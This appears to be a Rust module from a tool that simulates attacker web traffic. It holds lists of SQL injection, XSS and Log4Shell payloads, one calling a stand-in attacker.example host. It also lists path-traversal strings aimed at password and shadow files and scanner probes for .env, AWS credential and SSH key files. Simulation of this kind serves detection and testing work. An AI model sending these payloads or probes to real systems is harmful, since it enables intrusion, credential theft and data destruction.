//! What attackers send: injection payloads, traversal paths and the paths a scanner probes.

use rand::Rng;
use rand::rngs::StdRng;
use rand::seq::SliceRandom;

pub(super) const INJECTIONS: &[&str] = &[
    "1'%20OR%201=1--",
    "1%27%20OR%20%271%27%3D%271",
    "1%20UNION%20SELECT%20username,password%20FROM%20users--",
    "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
    "%24%7Bjndi:ldap:%2F%2Fattacker.example:1389%2Fa%7D",
    "1;%20DROP%20TABLE%20products",
    "1%20AND%20SLEEP(5)",
];

pub(super) const TRAVERSALS: &[&str] = &[
    "/static/..%2f..%2f..%2fetc%2fpasswd",
    "/api/files/../../../../etc/passwd",
    "/images/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow",
    "/download/..%252f..%252f..%252fetc%252fpasswd",
    "/assets/....//....//....//etc/passwd",
    "/api/export/..%5c..%5c..%5cwindows%5cwin.ini",
];

const PROBES: &[&str] = &[
    "/.env",
    "/.env.bak",
    "/.git/config",
    "/.git/HEAD",
    "/.svn/entries",
    "/.DS_Store",
    "/.htaccess",
    "/.aws/credentials",
    "/id_rsa",
    "/wp-login.php",
    "/wp-admin/install.php",
    "/xmlrpc.php",
    "/admin.php",
    "/administrator/index.php",
    "/phpmyadmin/index.php",
    "/pma/index.php",
    "/server-status",
    "/server-info",
    "/config.json",
    "/config.yml",
    "/backup.zip",
    "/backup.sql",
    "/db.sql",
    "/dump.sql",
    "/web.config",
    "/api/swagger.json",
    "/swagger-ui.html",
    "/v2/api-docs",
    "/v3/api-docs",
    "/console",
    "/cgi-bin/test.cgi",
    "/solr/admin/info/system",
    "/jenkins/login",
    "/owa/auth/logon.aspx",
    "/remote/login",
    "/api/graphql",
    "/graphiql",
    "/telescope/requests",
    "/_profiler/phpinfo",
    "/info.php",
    "/phpinfo.php",
    "/test.php",
    "/old/index.html",
    "/dev/index.html",
    "/staging/index.html",
    "/api/v2/users",
    "/api/v1/users",
    "/api/v1/orders",
    "/api/v1/config",
    "/storage/logs/laravel.log",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/HNAP1/",
    "/boaform/admin/formLogin",
    "/manager/html",
    "/login.action",
    "/struts2-showcase/index.action",
];

/// `n` distinct paths a scanner tries, in a random order: the well-known ones, then numbered ids.
pub(super) fn probe_paths(rng: &mut StdRng, n: usize) -> Vec<String> {
    let mut paths: Vec<String> = PROBES.iter().map(|p| (*p).to_owned()).collect();
    let mut id = rng.random_range(100..900);
    while paths.len() < n {
        paths.push(format!("/api/v1/users/{id}"));
        id += rng.random_range(1..7);
    }
    paths.shuffle(rng);
    paths.truncate(n);
    paths
}
